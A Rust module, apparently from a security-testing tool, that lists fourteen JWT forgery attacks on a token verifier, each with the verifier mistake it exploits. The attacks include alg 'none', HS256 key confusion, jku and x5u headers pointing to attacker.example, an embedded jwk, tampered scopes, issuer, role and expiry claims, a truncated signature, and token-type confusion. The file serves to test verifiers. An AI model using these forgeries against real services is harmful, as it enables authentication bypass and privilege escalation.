//! The attacks of row T4a. Each entry has a name, the mistake of a verifier that it relies on, and the token that is sent.

use serde_json::{Value, json};

use super::{
    claims::{Members, seconds},
    endpoints::Endpoint,
    forge::{Material, Signer},
};

/// An attack on the verifier of tokens.
pub(super) struct Attack {
    /// Identifies the attack in tests and in the checklist.
    pub(super) id: &'static str,
    /// The name on the screen.
    pub(super) name: &'static str,
    /// The mistake of a verifier that would let the attack succeed.
    pub(super) weakness: &'static str,
    /// The token to send.
    pub(super) forged_token: ForgedToken,
    /// The endpoint that receives it.
    pub(super) endpoint: Endpoint,
}

/// The token that is sent in place of the access token.
pub(super) enum ForgedToken {
    /// The access token's claims with another header and a new signature.
    Header(fn(&mut Members, &Material), Signer),
    /// Other claims with the access token's header and signature.
    Claims(fn(&mut Members, &Material)),
    /// The access token with the second half of its signature cut off.
    HalfSignature,
    /// The ID token.
    IdToken,
    /// The refresh token.
    RefreshToken,
}

/// Ten years, in seconds.
const TEN_YEARS: i64 = 315_576_000;

const fn at_whoami(
    id: &'static str,
    name: &'static str,
    weakness: &'static str,
    forged_token: ForgedToken,
) -> Attack {
    Attack { id, name, weakness, forged_token, endpoint: Endpoint::Whoami }
}

/// Every attack, in the order of the list.
pub(super) static ATTACKS: [Attack; 14] = [
    at_whoami(
        "none",
        "alg: none",
        "No signature. Succeeds if the verifier believes the token's alg.",
        ForgedToken::Header(none, Signer::NoKey),
    ),
    at_whoami(
        "hs256",
        "HS256 with the public key",
        "Succeeds if the verifier uses the public key, which is no secret, as a shared secret.",
        ForgedToken::Header(hs256, Signer::PublicKey),
    ),
    at_whoami(
        "kid",
        "Unknown kid",
        "Succeeds if the verifier searches elsewhere for a key that it does not know.",
        ForgedToken::Header(kid, Signer::Own),
    ),
    at_whoami(
        "jku",
        "jku: our address for keys",
        "Succeeds if the verifier fetches keys from the address in the token.",
        ForgedToken::Header(jku, Signer::Own),
    ),
    at_whoami(
        "jwk",
        "jwk: our key in the header",
        "Succeeds if the verifier uses the key in the token.",
        ForgedToken::Header(jwk, Signer::Own),
    ),
    at_whoami(
        "x5u",
        "x5u: our certificate",
        "Succeeds if the verifier fetches a certificate from the address in the token.",
        ForgedToken::Header(x5u, Signer::Own),
    ),
    at_whoami(
        "crit",
        "crit: an extension",
        "Succeeds if the verifier ignores an extension that it must understand.",
        ForgedToken::Header(crit, Signer::Own),
    ),
    at_whoami(
        "scopes",
        "More scopes, old signature",
        "Succeeds if the verifier decodes the token but does not verify it.",
        ForgedToken::Claims(scopes),
    ),
    at_whoami(
        "company",
        "Another company's HR admin",
        "Issuer and role of another company, with the old signature.",
        ForgedToken::Claims(company),
    ),
    at_whoami(
        "expiry",
        "Ten more years",
        "A later exp, with the old signature.",
        ForgedToken::Claims(expiry),
    ),
    at_whoami(
        "cut",
        "Half a signature",
        "Succeeds if the verifier compares only the bytes that are there.",
        ForgedToken::HalfSignature,
    ),
    Attack {
        id: "id",
        name: "ID token as access token",
        weakness: "Right key, right company, wrong use. Succeeds if the verifier does not check what a token is for. Sent to employees.",
        forged_token: ForgedToken::IdToken,
        endpoint: Endpoint::Employees,
    },
    at_whoami(
        "refresh",
        "Refresh token as access token",
        "The longest-lived of the three tokens, at the wrong endpoint.",
        ForgedToken::RefreshToken,
    ),
    Attack {
        id: "refresh-employees",
        name: "Refresh token at employees",
        weakness: "The same, at the endpoint that returns data.",
        forged_token: ForgedToken::RefreshToken,
        endpoint: Endpoint::Employees,
    },
];

fn none(header: &mut Members, _: &Material) {
    header.remove("kid");
    header.insert("alg".into(), "none".into());
}

fn hs256(header: &mut Members, _: &Material) {
    header.insert("alg".into(), "HS256".into());
}

/// Sets the algorithm of our own key, ES256, whatever the pool's key uses. A verifier that used our key would find the signature valid.
fn own(header: &mut Members) {
    header.insert("alg".into(), "ES256".into());
}

fn kid(header: &mut Members, _: &Material) {
    own(header);
    header.insert("kid".into(), "a-key-of-ours".into());
}

fn jku(header: &mut Members, _: &Material) {
    own(header);
    header.insert("jku".into(), "https://attacker.example/jwks.json".into());
}

fn jwk(header: &mut Members, material: &Material) {
    own(header);
    header.insert("jwk".into(), material.own_key.clone());
}

fn x5u(header: &mut Members, _: &Material) {
    own(header);
    header.insert("x5u".into(), "https://attacker.example/certificate.pem".into());
}

fn crit(header: &mut Members, _: &Material) {
    own(header);
    header.insert("crit".into(), json!(["let-me-in"]));
    header.insert("let-me-in".into(), Value::Bool(true));
}

fn scopes(claims: &mut Members, _: &Material) {
    claims.insert("scope".into(), "hr/employees.write hr/salaries.read root".into());
}

fn company(claims: &mut Members, material: &Material) {
    claims.insert("iss".into(), material.other_issuer().into());
    claims.insert("cognito:groups".into(), json!(["hr_admin"]));
}

fn expiry(claims: &mut Members, _: &Material) {
    let later = seconds(claims, "exp").unwrap_or_default() + TEN_YEARS;
    claims.insert("exp".into(), later.into());
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;
    use crate::pages::tokens::forge::{TokenDraft, forge, tests::material};

    /// T4a: the list has every attack of the row, and no two attacks send the same token to the same endpoint.
    #[test]
    fn every_attack_sends_something_of_its_own() {
        let ids: HashSet<_> = ATTACKS.iter().map(|attack| attack.id).collect();
        assert_eq!(ids.len(), ATTACKS.len());
        for id in ["none", "hs256", "kid", "jku", "jwk", "x5u", "crit"] {
            assert!(ids.contains(id), "{id}");
        }
        let material = material();
        let mut sent = HashSet::new();
        for attack in &ATTACKS {
            let draft = forge(&attack.forged_token, &material).unwrap();
            let (TokenDraft::Ready(text) | TokenDraft::Unsigned(text, _)) = draft;
            assert_ne!(text, material.access, "{}", attack.id);
            assert!(sent.insert((text, attack.endpoint)), "{}", attack.id);
        }
    }

    /// T4a: the attack that claims another company claims its issuer and the role that may do everything.
    #[test]
    fn the_foreign_admin_attack_claims_another_company() {
        let (material, mut claims) = (material(), Members::new());
        company(&mut claims, &material);
        assert_eq!(claims["iss"], "http://localhost:8080/eu-local-1_BetaCo1");
        assert_eq!(claims["cognito:groups"], json!(["hr_admin"]));
    }
}
